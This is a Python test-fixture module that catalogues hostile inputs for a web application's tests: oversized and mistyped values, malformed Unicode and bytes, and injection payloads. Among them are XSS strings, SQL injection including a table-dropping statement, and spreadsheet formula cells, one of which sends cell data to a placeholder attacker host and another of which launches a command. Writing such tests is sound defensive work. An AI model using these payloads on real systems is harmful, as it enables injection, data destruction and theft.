"""The catalogue of hostile inputs. Each entry is (id, value); ids name the test parameters.

Kinds:
- OVERSIZED(limit): just over a field's limit, and 1 MB.
- WRONG_TYPES: text where a number, date or id is expected; lists where scalars; negative, huge, float
  numbers; booleans as strings; empty.
- SCRIPT, SQL: markup and SQL-looking text. They must never run: refused, or kept as inert text and shown
  escaped.
- FORMULAS: spreadsheet formula cells (CSV injection).
- UNICODE: NUL bytes, lone surrogates, RTL overrides, invalid UTF-8 bytes (as raw bytes, for uploads and
  raw request bodies).
Ids of other people's things, expired sessions and replayed tokens need the world, so they are built in
the test modules from `tests.hostile.world`.
"""

MB = 1024 * 1024


def oversized(limit: int) -> list[tuple[str, str]]:
    return [(f"over-{limit}", "x" * (limit + 1)), ("1mb", "y" * MB)]


WRONG_NUMBERS = [
    ("text-for-number", "twelve"),
    ("negative", "-5"),
    ("huge", "99999999999999999999999999"),
    ("float", "3.5"),
    ("bool-string", "true"),
    ("empty", ""),
    ("exponent", "1e400"),
    ("nan", "NaN"),
]

WRONG_DATES = [
    ("text-for-date", "next tuesday"),
    ("impossible-date", "2026-02-30"),
    ("year-zero", "0000-01-01"),
    ("huge-year", "99999-01-01"),
    ("bool-for-date", "false"),
    ("sql-date", "2026-01-01' OR 1=1 --"),
]

WRONG_TIMES = [("text-for-time", "evening"), ("hour-25", "25:00"), ("negative-time", "-1:00")]

WRONG_IDS = [
    ("text-for-id", "abc"),
    ("negative-id", "-1"),
    ("zero-id", "0"),
    ("huge-id", "9999999999999999999999"),
    ("float-id", "1.5"),
    ("missing-id", "987654"),
    ("sql-id", "1 OR 1=1"),
]

WRONG_CHOICES = [("unknown-choice", "definitely-not-a-choice"), ("sql-choice", "' OR 1=1 --"),
                 ("script-choice", "<script>alert(1)</script>"), ("empty-choice", "")]

SCRIPT = [
    ("script-tag", "<script>alert(1)</script>"),
    ("img-onerror", '"><img src=x onerror=alert(1)>'),
    ("javascript-link", "javascript:alert(document.cookie)"),
]

SQL = [
    ("sql-or", "' OR 1=1 --"),
    ("sql-drop", "1; DROP TABLE auth_user"),
]

FORMULAS = [
    ("hyperlink", '=HYPERLINK("http://evil.example/?"&A1,"click")'),
    ("cmd", "+cmd|' /C calc'!A0"),
    ("at-sum", "@SUM(1)"),
    ("minus", "-1+1"),
]

UNICODE_TEXT = [
    ("nul-byte", "Ana\x00Ruiz"),
    ("rtl-override", "Ana\u202egnp.exe"),
]

# Raw bytes for request bodies and uploads (a str cannot carry these).
BAD_BYTES = [
    ("invalid-utf8", b"\xff\xfe\xfa"),
    ("lone-surrogate", b"\xed\xa0\x80"),  # a UTF-16 surrogate encoded as if it were UTF-8
    ("latin1", "Jos\xe9".encode("latin-1")),
    ("nul", b"A\x00B"),
]

# Text that is not valid for free-text fields on its own: over the limit, a NUL byte.
def bad_text(limit: int) -> list[tuple[str, str]]:
    return oversized(limit) + [("nul-byte", "Ana\x00Ruiz")]


# Text that is harmless when kept as text: it must never run, whatever the field does with it.
INERT_TEXT = SCRIPT + SQL + [("rtl-override", "Ana\u202egnp.exe")]

# One-time form tokens (hub.idempotency, a discussion client id) that are no token: each must be ignored
# (the form works as if it had none) or refused with a form error, never a 500 or someone else's row.
BAD_TOKENS = [
    ("not-a-uuid", "not-a-uuid"),
    ("10k", "f" * 10_000),
    ("1mb", "a" * MB),
    ("nul", "\x00"),
    ("uuid-then-nul", "9b2e8a57-3f4c-4d0e-9a1b-2c3d4e5f6a7b\x00"),
    ("sql-token", "' OR 1=1 --"),
    ("script-token", "<script>alert(1)</script>"),
    ("empty-token", ""),
    ("spaces-token", "   "),
    ("rtl-token", "\u202e9b2e8a57-3f4c-4d0e-9a1b-2c3d4e5f6a7b"),
    ("two-tokens", ["9b2e8a57-3f4c-4d0e-9a1b-2c3d4e5f6a7b", "1c1c1c1c-2d2d-4e4e-8f8f-000000000000"]),
    ("almost-a-uuid", "9b2e8a57-3f4c-4d0e-9a1b-2c3d4e5f6a7"),
]

# Lists where a scalar is expected (a form field posted twice).
LIST_FOR_SCALAR = ("list-for-scalar", ["1", "2"])


def all_inputs() -> list[tuple[str, object]]:
    """Every catalogue entry (for the count shown in the docs)."""
    return (oversized(100) + WRONG_NUMBERS + WRONG_DATES + WRONG_TIMES + WRONG_IDS + WRONG_CHOICES + SCRIPT + SQL
            + FORMULAS + UNICODE_TEXT + [(i, v.decode("latin-1")) for i, v in BAD_BYTES])
